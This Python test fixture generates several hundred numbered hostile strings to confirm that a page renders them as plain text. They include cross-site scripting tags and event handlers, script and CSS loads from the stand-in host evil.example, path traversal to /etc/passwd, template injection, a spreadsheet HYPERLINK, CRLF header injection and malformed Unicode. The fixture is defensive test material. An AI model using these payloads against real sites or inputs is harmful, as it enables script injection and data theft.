"""Texts that would do harm if a page took them for more than text, each of them told by its number.

What runs sets `window.ran`, opens a dialog, or asks the network: a test sees any of the three.
"""

from itertools import cycle, islice, product

_RUN = "window.ran={n};alert({n})"
_CODE = [
    "<script>" + _RUN + "</script>",
    "<ScRiPt\n>" + _RUN + "</sCrIpT\t>",
    "<script src=//evil.example/{n}.js></script>",
    '<script type="application/json" data-piece="questions">{{"id":[]}}</script>',
    "<img src=x onerror='" + _RUN + "'>",
    '<img/src="x"/onerror="' + _RUN + '">',
    "<svg/onload=" + _RUN + ">",
    "<svg><animate onbegin=" + _RUN + " attributeName=x dur=1s>",
    "<svg><script>" + _RUN + "</script></svg>",
    "<details open ontoggle=" + _RUN + ">",
    "<video><source onerror=" + _RUN + ">",
    "<iframe srcdoc='<script>parent." + _RUN + "</script>'></iframe>",
    "<iframe src='javascript:parent." + _RUN + "'></iframe>",
    "<body onload=" + _RUN + ">",
    "<a href='javascript:" + _RUN + "' autofocus onfocus=" + _RUN + ">x</a>",
    "<form action=//evil.example><input name=a autofocus onfocus=" + _RUN + ">",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<style>*{{display:none!important}}body{{background:url(//evil.example/{n})}}</style>",
    "</style><style>@import '//evil.example/{n}.css';</style>",
    "<div style='position:fixed;inset:0;width:9999px;background:red'>",
    "<table><td>{n}</table></div></main></body></html>",
    "<math><mtext><style><img src=x onerror=" + _RUN + "></style></mtext></math>",
    "<template><script>" + _RUN + "</script></template>",
    "<!--<script>{n}",
    "<![CDATA[<script>" + _RUN + "</script>]]>",
    "<textarea><plaintext>{n}",
    "{{{{ {n} * 7 }}}}{{% raw %}}{{% include '/etc/passwd' %}}",
    "${{" + _RUN + "}}`${{" + _RUN + "}}`",
    "[x](javascript:" + _RUN + ") ![x](//evil.example/{n}.png)",
    "javascript:" + _RUN,
    "data:text/html,<script>" + _RUN + "</script>",
    "../../../../etc/passwd?{n}",
    "..\\..\\windows\\{n}.ini",
    "file:///etc/passwd#{n}",
    "constructor __proto__ toString {n}",
    "\\u003cscript\\u003e" + _RUN + "\\u003c/script\\u003e",
    "&lt;script&gt;" + _RUN + "&lt;/script&gt; &#60;b&#62;",
    "$\\frac{{{n}}}{{",
    '=HYPERLINK("//evil.example/{n}")',
    "%00%0d%0aSet-Cookie:{n}",
]
_BEFORE = [
    "",
    '">',
    "'>",
    "</script>",
    "</pre></td></table>",
    "\u202e",
    "--></title></textarea></noscript>",
]
_ODD = [
    "\u202eright to left {n}\u202c",
    "\u2066\u2067\u202bnested{n}",
    "zero\u200bwidth\u200d{n}\ufeff",
    "line\u2028separator\u2029{n}",
    "Z\u0351\u036b\u0343\u036a\u0302a\u0336l\u0334g\u0321o{n}" + "\u0336" * 40,
    "\x00\x07\x1b[31m control {n}",
    "a lone \ud800 surrogate {n}",
    "W" * 5000 + "{n}",
    "🏳️‍🌈👨‍👩‍👧‍👦" * 200 + "{n}",
    " " * 3000 + "{n}",
    "\n" * 500 + "{n}",
    "\u3042" * 3000 + "{n}",
]


def texts(count: int = 300) -> list[str]:
    """So many different ones; the last two have a million characters."""
    made = [f"{before}{code}" for before, code in product(_BEFORE, _CODE)]
    small = list(islice(_mixed(made), count - 2))
    numbered = [text.format(n=number) for number, text in enumerate(small)]
    return [*numbered, "x" * 10**6, ("<script>" + _RUN.format(n=0) + "</script> ") * 27_778]


def _mixed(made: list[str]) -> "list[str]":
    """The odd ones, then the harmful ones."""
    return [*_ODD, *islice(cycle(made), len(made))]
